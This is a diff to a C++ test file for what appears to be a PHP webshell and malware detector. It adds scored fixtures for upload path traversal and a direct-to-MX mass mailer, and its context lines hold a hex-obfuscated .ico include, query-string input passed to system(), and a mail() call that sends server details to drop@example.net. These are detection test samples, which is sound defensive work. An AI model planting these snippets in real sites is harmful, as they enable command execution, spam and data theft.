@@ -177,6 +177,19 @@ TEST(Behaviour, UploadersAndRequestCodeRunThroughAFile) {
   EXPECT_GE(Pipeline("<?php @include \"\\x2fvar\\x2fwww\\x2fmedia\\x2ffavicon_3a.ico\";", "exec"),
             3);
   EXPECT_LT(Pipeline("<?php include __DIR__ . '/icons/cart.svg'; include 'style.css';", "exec"), 3);
+  // The client's name kept in a variable and joined to a directory the code resolved first
+  // (realpath($dir) . '/' . $name): the call ends before the name, which stays the client's.
+  EXPECT_GE(Pipeline("<?php $up = $_FILES['f']; $name = $up['name'];"
+                     " $to = realpath($_POST['d']) . DIRECTORY_SEPARATOR . $name;"
+                     " move_uploaded_file($up['tmp_name'], $to);",
+                     "upload"),
+            3);
+  // The name inside the call (realpath of the whole path, a renamer) is the code's choice.
+  EXPECT_LT(Pipeline("<?php $up = $_FILES['f'];"
+                     " $to = $dir . '/' . make_unique(realpath($dir) . $up['name']);"
+                     " move_uploaded_file($up['tmp_name'], $to);",
+                     "upload"),
+            3);
   // parse_str of the query string fills its result array with request input.
   EXPECT_GE(Pipeline("<?php parse_str($_SERVER['QUERY_STRING'], $o); system($o['c']);", "exec"), 4);
 }
@@ -212,6 +225,19 @@ TEST(Behaviour, DatabaseConsolesMailersAndBeacons) {
                      "mailer"),
             3);
   EXPECT_LT(Pipeline("<?php mail($admin, 'Order', $text);"), 2);
+  // Recipients' mail exchangers looked up and sent RCPT TO over the page's own socket, with
+  // the time limit lifted: a list verifier or direct-to-MX mailer.
+  EXPECT_GE(
+      Pipeline("<?php set_time_limit(0); foreach (explode(\"\\n\", $_POST['l']) as $a) {"
+               " getmxrr(substr(strrchr($a, '@'), 1), $mx); $s = fsockopen($mx[0], 25);"
+               " fwrite($s, \"HELO x\\r\\n\"); fwrite($s, 'RCPT TO: <' . $a . \">\\r\\n\"); }",
+               "mailer"),
+      3);
+  // A mail library talking SMTP to its one configured relay looks no MX up.
+  EXPECT_LT(Pipeline("<?php set_time_limit(300); $s = stream_socket_client($this->host . ':' ."
+                     " $this->port); fwrite($s, 'RCPT TO:<' . $to . \">\\r\\n\");",
+                     "mailer"),
+            2);
   EXPECT_GE(Pipeline("<?php $m = $_SERVER['DOCUMENT_ROOT'] . ' ' . $_SERVER['HTTP_HOST'];"
                      " mail('drop@example.net', 'new', $m);",
                      "exfil"),
